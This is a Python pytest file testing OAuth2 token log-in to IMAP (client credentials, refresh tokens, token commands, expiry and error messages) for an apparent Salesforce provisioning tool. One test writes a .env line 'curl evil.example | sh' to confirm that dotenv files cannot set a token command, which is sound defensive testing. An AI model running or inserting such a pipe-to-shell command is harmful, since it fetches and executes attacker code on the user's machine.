"""IMAP log-in by OAuth2 token (issue 16), with real parts: a Dovecot that takes only bearer tokens (its oauth2
passdb asks a test authorization server, RFC 7662 introspection) over TLS with a certificate from a test CA, and a
real token exchange over HTTP on loopback for each token source: client credentials (secret or certificate), a
refresh token, a token command.
"""

from __future__ import annotations

import json
import os
import stat
import sys
import threading
import time
from pathlib import Path

import imapclient
import pytest

from provisioner.certs import generate_key_and_cert
from provisioner.config import (GOOGLE_SCOPE, GOOGLE_TOKEN_URL, MICROSOFT_APP_SCOPE, MICROSOFT_USER_SCOPE,
                                MailboxSettings, OAuth2Settings, oauth2_settings_from, resolve_mailbox_settings)
from provisioner.errors import (ConfigError, ImapLoginError, ImapMechanismError, ImapOAuth2RequiredError,
                                ImapTokenRefusedError, MailConnectionError, OAuth2TokenError)
from provisioner.mail import CodeWaiter

from .support.dovecot_oauth2 import IMAP_SCOPE
from .test_mail import ORG, LoginSpy, _is_tls, deliver, salesforce_email


def client_credentials(server, app, **extra) -> OAuth2Settings:
    return oauth2_settings_from(imap_host="127.0.0.1", client_id=app.client_id, token_url=server.token_url,
                                scope=IMAP_SCOPE, client_secret=app.secret, **extra)


def wait_until(predicate, timeout: float = 15.0, what: str = "state") -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)  # polling another thread's state: nothing to subscribe to


def issued_to(server, app, grant: str | None = None) -> list:
    return [t for t in server.issued(grant) if t.client_id == app.client_id]


def authenticates(box, token: str) -> bool:
    """Does the OAuth2 Dovecot accept this token for this mailbox right now (a log-in of our own)?"""
    client = imapclient.IMAPClient(box.imap_host, port=box.imaps_port, ssl=True,
                                   ssl_context=__import__("ssl").create_default_context(cafile=box.ca_file))
    try:
        client.oauth2_login(box.address, token)
        return True
    except imapclient.exceptions.LoginError:
        return False
    finally:
        client.shutdown()


# --- the three token sources -----------------------------------------------------------------------------------


def test_client_credentials_with_a_secret_reads_the_code_over_tls(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    settings = oauth2_mailbox.settings(client_credentials(oauth2_server, app))
    with CodeWaiter(settings, recipient=oauth2_mailbox.address, org_name=ORG) as waiter:
        assert _is_tls(waiter)
        deliver(oauth2_mailbox, salesforce_email(oauth2_mailbox.address, "414141"))
        assert waiter.wait(timeout=10) == "414141"
    tokens = issued_to(oauth2_server, app, "client_credentials")
    assert len(tokens) == 1 and tokens[0].user == oauth2_mailbox.address
    assert (oauth2_mailbox.address, True) in oauth2_server.introspections  # Dovecot checked it with the server


def test_client_credentials_with_a_certificate(oauth2_mailbox, oauth2_server, tmp_path):
    key, cert = generate_key_and_cert(tmp_path / "app", common_name="imap app")
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, certificate_pem=cert.read_bytes())
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", client_id=app.client_id, token_url=oauth2_server.token_url,
                                  scope=IMAP_SCOPE, client_certificate=cert, client_key=key)
    with CodeWaiter(oauth2_mailbox.settings(oauth2, ssl=False), recipient=oauth2_mailbox.address, org_name=ORG) as w:
        assert _is_tls(w)  # STARTTLS on the plain port, before the token is sent
        deliver(oauth2_mailbox, salesforce_email(oauth2_mailbox.address, "424242"))
        assert w.wait(timeout=10) == "424242"
    assert [r[2] for r in oauth2_server.requests if r[1] == app.client_id] == ["ok"]


def test_a_certificate_the_app_does_not_know_is_refused_by_the_token_endpoint(oauth2_mailbox, oauth2_server, tmp_path):
    _, registered = generate_key_and_cert(tmp_path / "registered")
    key, other = generate_key_and_cert(tmp_path / "other")
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, certificate_pem=registered.read_bytes())
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", client_id=app.client_id, token_url=oauth2_server.token_url,
                                  scope=IMAP_SCOPE, client_certificate=other, client_key=key)
    with pytest.raises(OAuth2TokenError) as info:
        with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
            pass
    message = str(info.value)
    assert "invalid_client" in message and "IMAP_OAUTH2_CLIENT_CERTIFICATE" in message and "\n" not in message
    assert OAuth2TokenError.exit_code == 26


def test_refresh_token_from_a_file_is_used_and_the_rotated_one_saved(oauth2_mailbox, oauth2_server, tmp_path):
    app = oauth2_server.register_app()  # a public client, as a desktop consent leaves it
    token_file = tmp_path / "refresh-token"
    original = oauth2_server.issue_refresh_token(app, oauth2_mailbox.address)
    token_file.write_text(original + "\n")
    mailbox = resolve_mailbox_settings({}, env={
        "IMAP_HOST": oauth2_mailbox.imap_host, "IMAP_PORT": str(oauth2_mailbox.imaps_port),
        "IMAP_USER": oauth2_mailbox.address, "IMAP_CA_FILE": oauth2_mailbox.ca_file,
        "IMAP_OAUTH2_CLIENT_ID": app.client_id, "IMAP_OAUTH2_TOKEN_URL": oauth2_server.token_url,
        "IMAP_OAUTH2_REFRESH_TOKEN_FILE": str(token_file)}, env_file=False)
    assert mailbox.oauth2.source == "refresh_token" and original not in repr(mailbox)
    with CodeWaiter(mailbox, recipient=oauth2_mailbox.address, org_name=ORG) as waiter:
        deliver(oauth2_mailbox, salesforce_email(oauth2_mailbox.address, "434343"))
        assert waiter.wait(timeout=10) == "434343"
    assert [t.grant for t in issued_to(oauth2_server, app)] == ["refresh_token"]
    saved = token_file.read_text().strip()
    assert saved != original and oauth2_server.refresh_tokens[saved] == (app.client_id, oauth2_mailbox.address)
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600


def test_a_refresh_token_that_was_revoked_names_the_setting(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app()
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", client_id=app.client_id, token_url=oauth2_server.token_url,
                                  refresh_token="rt-revoked-long-ago-0123456789")
    with pytest.raises(OAuth2TokenError) as info:
        with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
            pass
    message = str(info.value)
    assert "invalid_grant" in message and "IMAP_OAUTH2_REFRESH_TOKEN" in message
    assert "rt-revoked-long-ago-0123456789" not in message and "\n" not in message


def token_command(tmp_path: Path, server, app) -> str:
    """A helper like a mail client's: does its own token exchange (client credentials) and prints the token."""
    secret_file = tmp_path / "client-secret"
    secret_file.write_text(app.secret)
    script = tmp_path / "print-token.py"
    script.write_text(f"""import json, sys, urllib.parse, urllib.request
secret = open({str(secret_file)!r}).read()
body = urllib.parse.urlencode({{"grant_type": "client_credentials", "client_id": {app.client_id!r},
                                "client_secret": secret, "scope": {IMAP_SCOPE!r}}}).encode()
print(json.load(urllib.request.urlopen({server.token_url!r}, body))["access_token"])
""")
    return f"{sys.executable} {script}"


def test_token_command_prints_the_token(oauth2_mailbox, oauth2_server, tmp_path):
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", token_command=token_command(tmp_path, oauth2_server, app))
    with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address, org_name=ORG) as waiter:
        deliver(oauth2_mailbox, salesforce_email(oauth2_mailbox.address, "444444"))
        assert waiter.wait(timeout=10) == "444444"
    assert len(issued_to(oauth2_server, app)) == 1


def test_oauthbearer_when_asked_and_xoauth2_by_default(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    mechanisms = []
    real = imapclient.IMAPClient.sasl_login

    def spy(client, mechanism, respond):
        mechanisms.append(mechanism)
        return real(client, mechanism, respond)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(imapclient.IMAPClient, "sasl_login", spy)
        for mechanism in ("oauthbearer", "auto"):
            oauth2 = client_credentials(oauth2_server, app, mechanism=mechanism)
            with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
                pass
    assert mechanisms == ["OAUTHBEARER", "XOAUTH2"]


# --- a token that expires during a long wait -----------------------------------------------------------------


def test_a_token_that_expires_mid_wait_is_renewed_and_the_code_still_found(oauth2_mailbox, oauth2_server):
    oauth2_server.token_lifetime = 3  # renewed ~2.4 s after it was issued
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    settings = oauth2_mailbox.settings(client_credentials(oauth2_server, app))
    box = oauth2_mailbox

    def deliver_after_renewal():
        wait_until(lambda: len(issued_to(oauth2_server, app)) >= 2, what="a renewed token")
        deliver(box, salesforce_email(box.address, "454545"))

    with CodeWaiter(settings, recipient=box.address, org_name=ORG, idle_refresh=60) as waiter:
        first = issued_to(oauth2_server, app)[0]
        later = threading.Thread(target=deliver_after_renewal)
        later.start()
        assert waiter.wait(timeout=20) == "454545"
        later.join()
    tokens = issued_to(oauth2_server, app)
    assert len(tokens) == 2
    # once its lifetime is over the first token opens nothing: without the renewal a reconnect would have failed
    first_value = next(k for k, v in oauth2_server.tokens.items() if v is first)
    wait_until(lambda: not oauth2_server.is_active(first_value), what="the first token's expiry")
    assert not authenticates(box, first_value)


def test_a_session_ended_with_its_token_reconnects_with_a_new_one_and_keeps_the_code(oauth2_mailbox, oauth2_server):
    """Exchange Online ends a session whose token expired; mail that came meanwhile must still be found."""
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    settings = oauth2_mailbox.settings(client_credentials(oauth2_server, app))
    with CodeWaiter(settings, recipient=oauth2_mailbox.address, org_name=ORG) as waiter:
        oauth2_server.expire_all()  # the server ends the token early (revoked, or its clock is ahead)
        waiter._client.socket().shutdown(__import__("socket").SHUT_RDWR)  # and the session with it
        deliver(oauth2_mailbox, salesforce_email(oauth2_mailbox.address, "464646"))  # while disconnected
        assert waiter.wait(timeout=10) == "464646"
    # the cached token was refused once, then a new one was fetched and accepted
    assert len(issued_to(oauth2_server, app)) == 2
    assert oauth2_server.introspections[-2:] == [(oauth2_mailbox.address, False), (oauth2_mailbox.address, True)]


# --- refusals: one line, the setting to change, an exit code ------------------------------------------------------


def test_a_token_the_server_refuses(oauth2_mailbox, tmp_path):
    script = tmp_path / "bad-token"
    script.write_text("#!/bin/sh\necho not-a-token-the-server-knows\n")
    script.chmod(0o700)
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", token_command=str(script))
    with pytest.raises(ImapTokenRefusedError) as info:
        with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
            pass
    message = str(info.value)
    assert message.startswith(f"IMAP server 127.0.0.1:{oauth2_mailbox.imaps_port} refused the OAuth2 token for "
                              f"{oauth2_mailbox.address} (XOAUTH2")
    assert "IMAP_TOKEN_COMMAND" in message and "not-a-token-the-server-knows" not in message and "\n" not in message
    assert ImapTokenRefusedError.exit_code == 23 and isinstance(info.value, ImapLoginError)


def test_a_token_for_another_mailbox_is_refused_naming_the_grant(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app(mailbox="someone.else@example.test", secret=True)
    with pytest.raises(ImapTokenRefusedError) as info:
        with CodeWaiter(oauth2_mailbox.settings(client_credentials(oauth2_server, app)),
                        recipient=oauth2_mailbox.address):
            pass
    assert "granted this mailbox" in str(info.value) and app.secret not in str(info.value)


def test_a_wrong_client_secret_names_the_setting_not_the_secret(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    oauth2 = oauth2_settings_from(imap_host="127.0.0.1", client_id=app.client_id, token_url=oauth2_server.token_url,
                                  scope=IMAP_SCOPE, client_secret="Wr0ng-Client-Secret")
    with pytest.raises(OAuth2TokenError) as info:
        with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
            pass
    message = str(info.value)
    assert "invalid_client" in message and "IMAP_OAUTH2_CLIENT_SECRET" in message
    assert "Wr0ng-Client-Secret" not in message and "\n" not in message


def test_a_failing_token_command_is_one_line(oauth2_mailbox, tmp_path):
    script = tmp_path / "fails"
    script.write_text("#!/bin/sh\necho 'oama: no token cached for this account' >&2\nexit 3\n")
    script.chmod(0o700)
    with pytest.raises(OAuth2TokenError) as info:
        with CodeWaiter(oauth2_mailbox.settings(oauth2_settings_from(imap_host="h", token_command=str(script))),
                        recipient=oauth2_mailbox.address):
            pass
    assert str(info.value) == ("the IMAP token command failed (exit 3): oama: no token cached for this account "
                               "(--imap-token-command / IMAP_TOKEN_COMMAND)")


def test_an_unreachable_token_endpoint_is_a_connection_error(oauth2_mailbox):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    oauth2 = oauth2_settings_from(imap_host="h", client_id="c", client_secret="s",
                                  token_url=f"http://127.0.0.1:{port}/token")
    with pytest.raises(MailConnectionError, match="cannot reach the OAuth2 token endpoint 127.0.0.1"):
        with CodeWaiter(oauth2_mailbox.settings(oauth2), recipient=oauth2_mailbox.address):
            pass


def test_a_server_without_oauth2_log_in_is_named(mailbox, oauth2_server):
    """The password Dovecot offers PLAIN and LOGIN only."""
    app = oauth2_server.register_app(mailbox=mailbox.address, secret=True)
    settings = MailboxSettings(host=mailbox.imap_host, port=mailbox.imap_port, user=mailbox.address, ssl=False,
                               oauth2=client_credentials(oauth2_server, app))
    with pytest.raises(ImapMechanismError) as info:
        with CodeWaiter(settings, recipient=mailbox.address):
            pass
    message = str(info.value)
    assert "does not offer an OAuth2 log-in" in message and "it offers LOGIN, PLAIN" in message
    assert "IMAP_PASSWORD" in message and "\n" not in message
    assert issued_to(oauth2_server, app) == []  # no token asked for a server that cannot take it
    assert ImapMechanismError.exit_code == 24


def test_a_password_for_a_server_that_takes_only_oauth2_is_never_sent(oauth2_mailbox, monkeypatch):
    spy = LoginSpy(monkeypatch)
    settings = MailboxSettings(host=oauth2_mailbox.imap_host, port=oauth2_mailbox.imaps_port,
                               user=oauth2_mailbox.address, password="An-Old-Password", ssl=True,
                               ca_file=oauth2_mailbox.ca_file)
    with pytest.raises(ImapOAuth2RequiredError) as info:
        with CodeWaiter(settings, recipient=oauth2_mailbox.address):
            pass
    message = str(info.value)
    assert "takes only OAuth2 log-ins (OAUTHBEARER, XOAUTH2)" in message and "nothing was sent" in message
    assert "IMAP_OAUTH2_CLIENT_ID" in message and "An-Old-Password" not in message and "\n" not in message
    assert spy.calls == [] and ImapOAuth2RequiredError.exit_code == 25


def test_an_untrusted_certificate_is_refused_before_any_token_is_fetched(oauth2_mailbox, oauth2_server):
    app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
    settings = MailboxSettings(host=oauth2_mailbox.imap_host, port=oauth2_mailbox.imaps_port,
                               user=oauth2_mailbox.address, oauth2=client_credentials(oauth2_server, app))
    with pytest.raises(ConfigError, match="certificate this machine does not trust"):
        with CodeWaiter(settings, recipient=oauth2_mailbox.address):
            pass
    assert issued_to(oauth2_server, app) == []


# --- settings -------------------------------------------------------------------------------------------------


BOX = {"IMAP_HOST": "outlook.office365.com", "IMAP_USER": "codes@contoso.com"}


def test_microsoft_client_credentials_from_the_environment():
    mailbox = resolve_mailbox_settings({}, env={**BOX, "IMAP_OAUTH2_TENANT": "contoso.onmicrosoft.com",
                                                "IMAP_OAUTH2_CLIENT_ID": "app-id",
                                                "IMAP_OAUTH2_CLIENT_SECRET": "Client~Secret"}, env_file=False)
    oauth2 = mailbox.oauth2
    assert oauth2.source == "client_credentials" and mailbox.password == ""
    assert oauth2.token_url == "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/token"
    assert oauth2.scope == MICROSOFT_APP_SCOPE == "https://outlook.office365.com/.default"
    assert "Client~Secret" in mailbox.secrets() and "Client~Secret" not in repr(mailbox)


def test_microsoft_refresh_token_defaults_to_the_delegated_imap_scope():
    oauth2 = resolve_mailbox_settings({}, env={**BOX, "IMAP_OAUTH2_CLIENT_ID": "app-id",
                                               "IMAP_OAUTH2_REFRESH_TOKEN": "rt"}, env_file=False).oauth2
    assert oauth2.token_url == "https://login.microsoftonline.com/organizations/oauth2/v2.0/token"
    assert oauth2.scope == MICROSOFT_USER_SCOPE
    assert "IMAP.AccessAsUser.All" in MICROSOFT_USER_SCOPE and "offline_access" in MICROSOFT_USER_SCOPE


def test_microsoft_app_access_needs_the_tenant():
    with pytest.raises(ConfigError, match="IMAP_OAUTH2_TENANT"):
        resolve_mailbox_settings({}, env={**BOX, "IMAP_OAUTH2_CLIENT_ID": "a", "IMAP_OAUTH2_CLIENT_SECRET": "s"},
                                 env_file=False)


def test_google_defaults_from_the_imap_host():
    oauth2 = resolve_mailbox_settings({}, env={"IMAP_HOST": "imap.gmail.com", "IMAP_USER": "codes@example.com",
                                               "IMAP_OAUTH2_CLIENT_ID": "id.apps.googleusercontent.com",
                                               "IMAP_OAUTH2_CLIENT_SECRET": "GOCSPX-x",
                                               "IMAP_OAUTH2_REFRESH_TOKEN": "1//rt"}, env_file=False).oauth2
    assert (oauth2.source, oauth2.token_url, oauth2.scope) == ("refresh_token", GOOGLE_TOKEN_URL, GOOGLE_SCOPE)
    assert set(oauth2.secrets()) == {"GOCSPX-x", "1//rt"}


@pytest.mark.parametrize("env, words", [
    ({"IMAP_HOST": "imap.example.com", "IMAP_OAUTH2_CLIENT_ID": "a", "IMAP_OAUTH2_CLIENT_SECRET": "s"},
     ["no OAuth2 token endpoint known", "IMAP_OAUTH2_TOKEN_URL"]),
    ({"IMAP_OAUTH2_TOKEN_URL": "http://login.example.com/token", "IMAP_OAUTH2_CLIENT_ID": "a",
      "IMAP_OAUTH2_CLIENT_SECRET": "s"}, ["IMAP_OAUTH2_TOKEN_URL must be an https:// URL"]),
    ({"IMAP_OAUTH2_TENANT": "t", "IMAP_OAUTH2_CLIENT_ID": "a"}, ["no token source", "IMAP_TOKEN_COMMAND"]),
    ({"IMAP_OAUTH2_CLIENT_SECRET": "s", "IMAP_OAUTH2_TENANT": "t"}, ["client id", "IMAP_OAUTH2_CLIENT_ID"]),
    ({"IMAP_TOKEN_COMMAND": "oama access x", "IMAP_OAUTH2_REFRESH_TOKEN": "rt"}, ["choose one OAuth2 token source"]),
    ({"IMAP_OAUTH2_TENANT": "t", "IMAP_OAUTH2_CLIENT_ID": "a", "IMAP_OAUTH2_CLIENT_SECRET": "s",
      "IMAP_PASSWORD": "pw"}, ["both an IMAP password and an OAuth2 token source"]),
    ({"IMAP_TOKEN_COMMAND": "x", "IMAP_OAUTH2_MECHANISM": "plain"}, ["IMAP_OAUTH2_MECHANISM must be one of"]),
    ({}, ["missing IMAP password or OAuth2 token source", "IMAP_PASSWORD", "docs/mailboxes.md"]),
])
def test_oauth2_settings_mistakes_are_one_line(env, words):
    with pytest.raises(ConfigError) as info:
        resolve_mailbox_settings({}, env={**BOX, **env}, env_file=False)
    for word in words:
        assert word in str(info.value)
    assert "\n" not in str(info.value) and "pw" not in str(info.value).split()


def test_a_dotenv_file_cannot_name_a_token_command(tmp_path):
    env_file = tmp_path / ".env"
    env_file.write_text("IMAP_HOST=imap.example.com\nIMAP_USER=u\nIMAP_TOKEN_COMMAND=curl evil.example | sh\n")
    with pytest.raises(ConfigError, match="missing IMAP password or OAuth2 token source"):
        resolve_mailbox_settings({}, env={}, env_file=env_file)
    mailbox = resolve_mailbox_settings({}, env={"IMAP_TOKEN_COMMAND": "oama access u"}, env_file=env_file)
    assert mailbox.oauth2.token_command == "oama access u"


def test_flags_win_over_the_environment_and_the_secret_file_is_read(tmp_path):
    from provisioner.commands.options import ConnectionFlags

    secret = tmp_path / "secret"
    secret.write_text("From-A-File\n")
    flags = {f: None for f in ConnectionFlags.__dataclass_fields__}
    flags.update(username="admin@example.com", password="pw", trust_hosts=(), imap_host="outlook.office365.com",
                 imap_user="codes@contoso.com", imap_oauth2_client_id="flag-app", imap_oauth2_tenant="contoso",
                 imap_oauth2_client_secret_file=str(secret))
    with pytest.MonkeyPatch.context() as patch:
        for name in [k for k in os.environ if k.startswith(("IMAP_", "SALESFORCE_"))]:
            patch.delenv(name)
        patch.setenv("IMAP_OAUTH2_CLIENT_ID", "env-app")
        _, mailbox = ConnectionFlags(**flags).resolve()
    assert (mailbox.oauth2.client_id, mailbox.oauth2.client_secret) == ("flag-app", "From-A-File")


# --- the inventory (`provisioner run`) ------------------------------------------------------------------------


def test_inventory_mailbox_with_oauth2(tmp_path):
    from provisioner.job.inventory import parse_inventory
    from provisioner.job.org_attempt import OrgAttempts

    spec = tmp_path / "spec.toml"
    spec.write_text('name = "CI"\n')
    raw = {"defaults": {"spec": str(spec), "mailbox": {
        "host": "outlook.office365.com", "user": "codes@contoso.com",
        "oauth2": {"tenant": "contoso.onmicrosoft.com", "client_id": "app-id", "client_secret_env": "BOX_SECRET"}}},
        "org": [{"name": "a", "login_url": "https://login.salesforce.com", "username": "a@x.test",
                 "password_env": "A_PW"}]}
    inventory = parse_inventory(raw, tmp_path / "inventory.toml")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("A_PW", "a-pw")
        patch.setenv("BOX_SECRET", "Box~Secret")
        task = OrgAttempts(inventory, dry_run=True).task(inventory.orgs[0])
    assert task.mailbox.oauth2.client_secret == "Box~Secret" and task.mailbox.password == ""
    assert task.mailbox.oauth2.scope == MICROSOFT_APP_SCOPE
    with pytest.MonkeyPatch.context() as patch:  # the variable is missing: named, at the org's turn
        patch.setenv("A_PW", "a-pw")
        patch.delenv("BOX_SECRET", raising=False)
        with pytest.raises(ConfigError, match="BOX_SECRET"):
            OrgAttempts(inventory, dry_run=True).task(inventory.orgs[0])
    both = json.loads(json.dumps(raw))
    both["defaults"]["mailbox"]["password_env"] = "BOX_PW"
    with pytest.raises(ConfigError, match=r"\[oauth2\] both set"):
        parse_inventory(both, tmp_path / "inventory.toml")
    unknown = json.loads(json.dumps(raw))
    unknown["defaults"]["mailbox"]["oauth2"]["client_secret"] = "inline"
    with pytest.raises(ConfigError, match="unknown key 'client_secret'"):
        parse_inventory(unknown, tmp_path / "inventory.toml")


# --- `provisioner setup` reads its codes with each token source (subprocess, real Chromium, simulated org) -------


@pytest.fixture
def oauth2_org(sim_factory, oauth2_mailbox):
    """An org that asks for an emailed code at login (and to reveal the consumer secret), mailing a mailbox that
    takes only OAuth2 tokens; IMAP over TLS with the test CA."""
    handle = sim_factory(mail=f"lmtp://{oauth2_mailbox.imap_host}:{oauth2_mailbox.lmtp_port}",
                         admin_email=oauth2_mailbox.address, unrecognised_device=True, admin_totp=False)
    info = handle.info()
    env = {"SALESFORCE_LOGIN_URL": info["login_url"], "SALESFORCE_USERNAME": info["username"],
           "SALESFORCE_PASSWORD": info["password"], "IMAP_HOST": oauth2_mailbox.imap_host,
           "IMAP_PORT": str(oauth2_mailbox.imaps_port), "IMAP_USER": oauth2_mailbox.address,
           "IMAP_SSL": "true", "IMAP_CA_FILE": oauth2_mailbox.ca_file}
    return handle, env


@pytest.mark.e2e
@pytest.mark.parametrize("source", ["client_credentials", "refresh_token", "token_command", "short_lived_tokens"])
def test_setup_reads_its_codes_with_each_token_source(oauth2_org, oauth2_mailbox, oauth2_server, tmp_path, source):
    from .test_setup_cli import setup

    handle, env = oauth2_org
    args: list[str] = []
    secrets: list[str] = []
    if source == "short_lived_tokens":  # each token dies within the run: the second code needs a new one
        oauth2_server.token_lifetime = 2
    if source in ("client_credentials", "short_lived_tokens"):
        app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
        env.update(IMAP_OAUTH2_CLIENT_ID=app.client_id, IMAP_OAUTH2_TOKEN_URL=oauth2_server.token_url,
                   IMAP_OAUTH2_SCOPE=IMAP_SCOPE, IMAP_OAUTH2_CLIENT_SECRET=app.secret)
        secrets.append(app.secret)
    elif source == "refresh_token":
        app = oauth2_server.register_app()
        refresh = oauth2_server.issue_refresh_token(app, oauth2_mailbox.address)
        (tmp_path / "rt").write_text(refresh)
        env.update(IMAP_OAUTH2_CLIENT_ID=app.client_id, IMAP_OAUTH2_TOKEN_URL=oauth2_server.token_url)
        args += ["--imap-oauth2-refresh-token-file", str(tmp_path / "rt")]
        secrets.append(refresh)
    else:
        app = oauth2_server.register_app(mailbox=oauth2_mailbox.address, secret=True)
        args += ["--imap-token-command", token_command(tmp_path, oauth2_server, app)]
        secrets.append(app.secret)
    proc = setup(tmp_path, "--json", "--no-verify", *args, extra_env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout)["result"]
    assert handle.org.app_by_api_name(result["api_name"]).consumer_key == result["consumer_key"]
    tokens = [value for value, issued in oauth2_server.tokens.items() if issued.client_id == app.client_id]
    assert tokens and all(oauth2_server.tokens[t].user == oauth2_mailbox.address for t in tokens)
    if source == "short_lived_tokens":
        assert len(tokens) >= 2 and not any(oauth2_server.is_active(t) for t in tokens[:-1])
    # the codes were read (login, then consumer details), and no token or secret reached the output
    assert sum(1 for user, active in oauth2_server.introspections if user == oauth2_mailbox.address and active) >= 2
    for secret in (*secrets, *tokens):
        assert secret not in proc.stdout + proc.stderr


@pytest.mark.e2e
def test_setup_with_a_token_the_server_refuses_ends_in_one_line_and_exit_23(oauth2_org, tmp_path):
    from .test_setup_cli import assert_failed_cleanly, setup

    _, env = oauth2_org
    proc = setup(tmp_path, "--imap-token-command", "echo not-a-valid-token", extra_env=env)
    last = assert_failed_cleanly(proc, ImapTokenRefusedError.exit_code, "refused the OAuth2 token",
                                 "IMAP_TOKEN_COMMAND", tmp_path=tmp_path)
    assert "not-a-valid-token" not in proc.stdout + proc.stderr and last.count("\n") == 0
